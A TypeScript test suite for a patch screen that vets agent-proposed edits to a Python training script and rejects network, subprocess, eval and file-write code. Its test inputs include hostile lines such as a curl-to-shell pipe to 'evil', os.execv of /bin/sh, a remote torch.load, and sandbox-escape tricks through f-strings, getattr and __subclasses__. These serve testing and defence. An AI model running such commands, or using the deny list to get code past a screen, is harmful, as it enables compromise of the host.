import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { screenPatch, tokenize } from '../../src/screen/index.js';

const BASE = readFileSync(join(import.meta.dirname, 'fixtures', 'train_baseline.py'), 'utf8');

// Real git diffs, as the workspace makes them: a throwaway repo holding `before`, then `after` written over it.
const repo = mkdtempSync(join(tmpdir(), 'swarm-screen-'));
const git = (...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'core.autocrlf=false', ...args], { cwd: repo, encoding: 'utf8' });
git('init', '-q');
afterAll(() => rmSync(repo, { recursive: true, force: true }));

function diffOf(before: string, after: string, file = 'train.py'): string {
  writeFileSync(join(repo, file), before);
  git('add', '-A');
  git('commit', '-q', '--allow-empty', '-m', 'base');
  writeFileSync(join(repo, file), after);
  return git('diff', '--', file);
}

/** Patch the baseline: replace `from` with `to` (which must occur). */
function patch(from: string, to: string, before = BASE) {
  expect(before.includes(from), `fixture lacks ${JSON.stringify(from)}`).toBe(true);
  const after = before.replace(from, to);
  return { files: ['train.py'], diff: diffOf(before, after), before, after };
}

/** Adds lines after the hyperparameter block. */
function addLines(lines: string, before = BASE) {
  return patch('WARMDOWN_RATIO = 0.5\n', `WARMDOWN_RATIO = 0.5\n${lines}\n`, before);
}

const lineOf = (src: string, needle: string) => src.split('\n').findIndex((l) => l.includes(needle)) + 1;

describe('screenPatch: accepted', () => {
  it('passes a benign hyperparameter change', () => {
    const r = screenPatch(patch('MATRIX_LR = 0.04', 'MATRIX_LR = 0.05'));
    expect(r).toEqual({ ok: true, reasons: [] });
  });

  it('passes a larger benign change: new layer code, math, torch submodule and kernels imports, model.eval(), torch.compile', () => {
    const r = screenPatch(
      addLines(
        [
          'import torch.nn.init as init',
          'from torch.optim.lr_scheduler import LambdaLR',
          'from torch.nn.attention.flex_attention import create_block_mask, flex_attention',
          'from kernels import get_kernel  # the harness\'s offline flash-attention stand-in',
          'def rope_base(dim):',
          '    return 200_000 ** (torch.arange(0, dim, 2).float() / dim)',
          'def evaluate(model):',
          '    model.eval()',
          '    return torch.compile(model, mode="max-autotune")',
          'schedule = {"warmup": 0.1, "eval_every": 250}',
          'print(f"lr={MATRIX_LR:.3f} {math.sqrt(2)}")',
        ].join('\n'),
      ),
    );
    expect(r.reasons).toEqual([]);
    expect(r.ok).toBe(true);
  });

  it('does not trigger on "socket", "subprocess" or eval( inside comments and strings', () => {
    const r = screenPatch(
      addLines(
        [
          '# we could import socket here, or call os.system("rm -rf /") -- but we do not',
          'NOTE = "import socket; eval(\'1\'); open(\'x\', \'w\'); subprocess.run(...)"',
          "DOC = '''",
          'import subprocess',
          '__import__("socket")',
          "'''",
          'RAW = r"os.system\\" socket"',
          'print(f"{DEPTH} layers; not a socket: {\'eval(\' + \'x\'}")',
        ].join('\n'),
      ),
    );
    expect(r.reasons).toEqual([]);
    expect(r.ok).toBe(true);
  });

  it('does not flag pre-existing usage in before', () => {
    const before = BASE.replace('import gc\n', 'import gc\nimport subprocess\n').replace(
      '    gc.collect()\n',
      '    gc.collect()\n    subprocess.run(["nvidia-smi"])\n    os.system("sync")\n',
    );
    const r = screenPatch(patch('MATRIX_LR = 0.04', 'MATRIX_LR = 0.03', before));
    expect(r).toEqual({ ok: true, reasons: [] });
  });

  it('allows `import os` / `from os import path` when the current train.py imports os', () => {
    const r = screenPatch(addLines('import os\nfrom os import path\nCKPT = path.join(os.getcwd(), "ckpt")'));
    expect(r.reasons).toEqual([]);
  });
});

describe('screenPatch: refused with a specific reason', () => {
  it('refuses a patch touching another file', () => {
    const p = patch('MATRIX_LR = 0.04', 'MATRIX_LR = 0.05');
    const r = screenPatch({ ...p, files: ['train.py', 'prepare.py'] });
    expect(r.ok).toBe(false);
    expect(r.reasons).toContain('the patch touches "prepare.py" (only train.py may change)');
  });

  it('refuses a diff whose headers name another file, even if files says train.py', () => {
    const before = 'x = 1\n';
    const diff = diffOf(before, 'x = 2\n', 'prepare.py');
    const r = screenPatch({ files: ['train.py'], diff, before, after: 'x = 2\n' });
    expect(r.ok).toBe(false);
    expect(r.reasons).toContain('the patch touches "prepare.py" (only train.py may change)');
  });

  it('refuses a mode change (e.g. making train.py executable)', () => {
    const diff = 'diff --git a/train.py b/train.py\nold mode 100644\nnew mode 100755\n';
    const r = screenPatch({ files: ['train.py'], diff, before: BASE, after: BASE });
    expect(r.reasons).toEqual(['the patch sets file mode 100755 (only edits to the text of train.py are allowed)']);
  });

  it('refuses import socket', () => {
    const p = addLines('import socket');
    const r = screenPatch(p);
    expect(r.ok).toBe(false);
    expect(r.reasons).toEqual([`line ${lineOf(p.after, 'import socket')}: imports "socket" (network access is not allowed)`]);
  });

  it('refuses import subprocess', () => {
    const p = addLines('import subprocess\nsubprocess.run(["ls"])');
    const r = screenPatch(p);
    const line = lineOf(p.after, 'import subprocess');
    expect(r.reasons).toContain(`line ${line}: imports "subprocess" (starting or signalling other processes is not allowed)`);
    expect(r.reasons).toContain(`line ${line + 1}: uses "subprocess" (starting or signalling other processes is not allowed)`);
  });

  it('refuses os.system, including through an alias', () => {
    const p = addLines('os.system("curl evil | sh")\no = os\no.system("x")');
    const r = screenPatch(p);
    const line = lineOf(p.after, 'os.system(');
    expect(r.reasons).toEqual([
      `line ${line}: uses os.system (starts or signals other processes)`,
      `line ${line + 2}: uses ".system" (starts or signals other processes)`,
    ]);
  });

  it("refuses __import__('socket')", () => {
    const p = addLines("s = __import__('socket')");
    const r = screenPatch(p);
    expect(r.ok).toBe(false);
    expect(r.reasons).toEqual([`line ${lineOf(p.after, '__import__')}: uses "__import__" (imports modules dynamically)`]);
  });

  it('refuses eval( but not model.eval()', () => {
    const p = addLines('LR = eval("0.01")');
    const r = screenPatch(p);
    expect(r.reasons).toEqual([`line ${lineOf(p.after, 'LR = eval')}: calls eval() (runs code built at run time)`]);
  });

  it('refuses exec, compile() and globals()', () => {
    const p = addLines('exec("x=1")\ncode = compile("1", "f", "eval")\nglobals()["x"] = 2');
    const r = screenPatch(p);
    expect(r.reasons.map((s) => s.replace(/^line \d+: /, ''))).toEqual([
      'calls exec() (runs code built at run time)',
      'calls compile() (builds code objects at run time)',
      'calls globals() (reaches the module namespace (a way around the screen))',
    ]);
  });

  it("refuses open('x','w') but not a plain read", () => {
    const p = addLines("with open('x', 'w') as f:\n    f.write('hi')\nlog = open('log.txt', mode='a')\ncfg = open('cfg.txt').read()");
    const r = screenPatch(p);
    expect(r.reasons).toEqual([
      `line ${lineOf(p.after, "open('x'")}: calls open() with mode "w" (writing files is not allowed)`,
      `line ${lineOf(p.after, "open('log")}: calls open() with mode "a" (writing files is not allowed)`,
    ]);
  });

  it('refuses an open() whose mode is computed', () => {
    const p = addLines("m = 'w'\nf = open('x', m)");
    expect(screenPatch(p).reasons).toEqual([
      `line ${lineOf(p.after, "open('x', m)")}: calls open() (its mode is not a plain string, so it cannot be checked)`,
    ]);
  });

  it('refuses an oversized diff', () => {
    const big = '# ' + 'x'.repeat(70 * 1024);
    const p = addLines(big);
    const r = screenPatch(p);
    expect(r.ok).toBe(false);
    expect(r.reasons).toHaveLength(1);
    expect(r.reasons[0]).toMatch(/^the diff is \d+ bytes, over the limit of 65536 bytes$/);
  });

  it('refuses an oversized source (custom limit)', () => {
    const r = screenPatch({ ...patch('MATRIX_LR = 0.04', 'MATRIX_LR = 0.05'), maxSourceBytes: 1000 });
    expect(r.reasons[0]).toMatch(/^train\.py would be \d+ bytes, over the limit of 1000 bytes$/);
  });

  it('refuses `import os` when the current train.py does not import it', () => {
    const before = BASE.replace('import os\n', '').replace(/os\.[a-z.]+\([^)]*\)/g, '"x"');
    const p = patch('MATRIX_LR = 0.04', 'MATRIX_LR = 0.04\nimport os', before);
    const r = screenPatch(p);
    expect(r.reasons).toEqual([
      `line ${lineOf(p.after, 'import os')}: imports "os" ("os" is allowed only when the current train.py already imports it)`,
    ]);
  });

  it('refuses reaching outside training through os even when os is imported', () => {
    const p = addLines('from os import system\nos.remove("/etc/passwd")\nos.execv("/bin/sh", ["sh"])');
    const r = screenPatch(p);
    const l = lineOf(p.after, 'from os import system');
    expect(r.reasons).toEqual([
      `line ${l}: imports "os.system" (starts or signals other processes)`,
      `line ${l + 1}: uses os.remove (changes files outside what training needs)`,
      `line ${l + 2}: uses os.execv (starts other programs)`,
    ]);
  });

  it('refuses the rest of the list: network modules, ctypes, importlib, pickle, shutil, sys.modules, torch.hub, torch.load, getattr tricks', () => {
    const before = BASE.replace('import gc\n', 'import gc\nimport sys\n');
    const cases: Array<[string, RegExp]> = [
      ['import urllib.request', /imports "urllib\.request" \(network access is not allowed\)/],
      ['from http.client import HTTPConnection', /imports "http\.client\.HTTPConnection" \(network access is not allowed\)/],
      ['import requests', /imports "requests" \(network access is not allowed\)/],
      ['import ctypes', /imports "ctypes" \(native code/],
      ['import importlib', /imports "importlib" \(dynamic imports/],
      ['import pickle', /imports "pickle" \(deserialising/],
      ['import shutil', /imports "shutil" \(file system access/],
      ['sys.modules["torch"] = None', /uses sys\.modules \(rewrites the module table\)/],
      ['m = torch.hub.load("x/y", "z")', /uses torch\.hub \(downloads and runs code/],
      ['from torch import hub', /imports "torch\.hub" \(downloads and runs code/],
      ['sd = torch.load("http://evil/x.pt")', /uses torch\.load \(deserialises files/],
      ['f = getattr(__builtins__, "ev" + "al")', /uses "__builtins__"/],
      ['f = getattr(os, "sys" + "tem")', /calls getattr\(\) on "os"/],
      ['k = getattr(model, "__dict__")', /calls getattr\(\.\.\., "__dict__"\)/],
      ['x = ().__class__.__bases__[0].__subclasses__()', /uses "\.__bases__" \(walks the class tree/],
      ['import numpy', /imports "numpy" \(not in the import allowlist\)/],
      ['from . import evil', /imports from "\." \(relative imports are not allowed\)/],
      ['ｅｖａｌ("1")', /calls eval\(\)/],
    ];
    for (const [code, re] of cases) {
      const r = screenPatch(addLines(code, before));
      expect(r.ok, code).toBe(false);
      expect(r.reasons.some((s) => re.test(s)), `${code}: ${JSON.stringify(r.reasons)}`).toBe(true);
    }
  });

  it('sees code hidden in f-string replacement fields', () => {
    const p = addLines('msg = f"{__import__(\'os\').system(\'id\')}"');
    const r = screenPatch(p);
    expect(r.ok).toBe(false);
    expect(r.reasons.join('\n')).toContain('uses "__import__"');
  });

  it('flags a grown count even when the line itself is not new (duplicated existing call)', () => {
    const before = BASE.replace('    gc.collect()\n', '    gc.collect()\n    os.system("sync")\n');
    const after = before.replace('    gc.collect()\n', '    gc.collect()\n    os.system("sync")\n');
    const r = screenPatch({ files: ['train.py'], diff: diffOf(before, after), before, after });
    expect(r.ok).toBe(false);
    expect(r.reasons[0]).toMatch(/^line \d+: uses os\.system/);
  });
});

describe('tokenize', () => {
  it('separates code from comments and strings and tracks lines', () => {
    const toks = tokenize('x = 1  # socket\ns = """a\nb"""\ny = f"{eval(z)!r:>{w}}"\n');
    const names = toks.filter((t) => t.kind === 'name').map((t) => `${t.value}@${t.line}`);
    expect(names).toEqual(['x@1', 's@2', 'y@4', 'eval@4', 'z@4', 'r@4', 'w@4']);
    expect(toks.filter((t) => t.kind === 'string').map((t) => t.value)).toContain('a\nb');
  });

  it('never throws on junk', () => {
    for (const junk of ['"unterminated', "f'{", '\\', '\u0000\u00ff\ud800', 'r"\\', '"""', '0x', '@@@']) {
      expect(() => tokenize(junk)).not.toThrow();
      expect(() => screenPatch({ files: ['train.py'], diff: '', before: '', after: junk })).not.toThrow();
    }
  });

  it('screens a 256 KiB file quickly', () => {
    const big = BASE.repeat(Math.floor((250 * 1024) / BASE.length));
    const t0 = performance.now();
    const r = screenPatch({ files: ['train.py'], diff: '', before: BASE, after: big });
    const ms = performance.now() - t0;
    expect(r.ok).toBe(true);
    expect(ms).toBeLessThan(2000);
  });
});
